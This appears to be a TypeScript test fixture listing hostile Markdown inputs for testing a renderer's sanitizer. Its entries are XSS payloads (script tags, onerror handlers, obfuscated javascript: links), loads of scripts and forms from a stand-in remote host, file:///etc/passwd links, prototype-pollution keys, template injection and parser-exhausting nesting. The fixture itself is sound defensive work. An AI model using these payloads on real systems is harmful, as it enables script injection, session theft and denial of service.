/** Runs where something lets it. */
export const attack = "globalThis.attacked=true"
const remote = "https://remote.example"
/** Texts that would run, load or break out of something, if they were taken for more than text. */
export const HOSTILE_MARKDOWN: Readonly<Record<string, string>> = {
	script: `<script>${attack}</script>\n\n<SCRIPT SRC=${remote}/a.js></SCRIPT>`,
	"script in a line": `so <script>${attack}</script> it is`,
	"broken out of code": `\`\`\`"><img src=x onerror=${attack}>\n</code></pre><img src=x onerror=${attack}>\n\`\`\``,
	"event handlers": `<img src=x onerror="${attack}"><svg onload="${attack}"><body onload=${attack}><details open ontoggle=${attack}>`,
	"frames and forms": `<iframe src="javascript:${attack}"></iframe><object data="${remote}/o"></object><form action="${remote}"><button>ok</button></form>`,
	"style and base": `<style>@import url(${remote}/s.css); * { display: none }</style><base href="${remote}/"><link rel=stylesheet href=${remote}/l.css>`,
	"a refresh": `<meta http-equiv="refresh" content="0;url=${remote}">`,
	"script links": `[a](javascript:${attack}) [b](JaVaScRiPt:${attack}) [c](java&#115;cript:${attack}) [d](&#x6A;avascript:${attack}) [e](<javascript:${attack}>) <javascript:${attack}> [f](\tjavascript:${attack}) [g](javascript&colon;${attack})`,
	"other protocols": `[a](vbscript:x) [b](data:text/html,<script>${attack}</script>) [c](vscode://file/etc/passwd) [d](command:x) [e](file:///etc/passwd) [f](vscode-webview://x) [g](blob:x)`,
	"a title that breaks out": `[a](https://a.example "x\\" onmouseover=\\"${attack}") [b](https://a.example/"onclick="${attack})`,
	"an address that breaks out": `[a](https://a.example/?"><img/src=x/onerror=${attack}>) https://a.example/"><script>${attack}</script>`,
	"a picture that breaks out": `![x" onerror="${attack}](${remote}/x.png) ![x](javascript:${attack}) ![<img src=x onerror=${attack}>](${remote}/y.png)`,
	"an address apart": `[x]\n\n[x]: javascript:${attack}\n[x"onload=${attack}]: ${remote}`,
	"a language that breaks out": `\`\`\`js"onmouseover="${attack}\ncode\n\`\`\``,
	"a table that breaks out": `| <img src=x onerror=${attack}> | b |\n|--|--|\n| </td></table><script>${attack}</script> | [x](javascript:${attack}) |`,
	"references that become tags": `&lt;img src=x onerror=${attack}&gt; &#60;script&#62;${attack}&#60;/script&#62;`,
	comment: `<!--><img src=x onerror=${attack}>--> <![CDATA[<img src=x onerror=${attack}>]]> <?php ${attack} ?>`,
	"names of an object": "[__proto__]: https://a.example\n[constructor] [__proto__] [toString][hasOwnProperty]",
	"deep quotes": `${">".repeat(20_000)} <img src=x onerror=${attack}>`,
	"deep lists": Array.from({ length: 400 }, (_, depth) => `${"  ".repeat(depth)}- x`).join("\n"),
	"deep emphasis": `${"**a *b ".repeat(2_000)} x ${"* **".repeat(2_000)}`,
	"a flood of brackets": "[![".repeat(20_000),
	"a flood of underlines": "_a".repeat(50_000),
	"turned around": `[safe\u202e${remote}](https://a.example) \u0000\u0007\ud800`,
	"the template's": "{{constructor.constructor('attacked=true')()}} ${attacked=true} $t(app.chat) {{t}}",
}
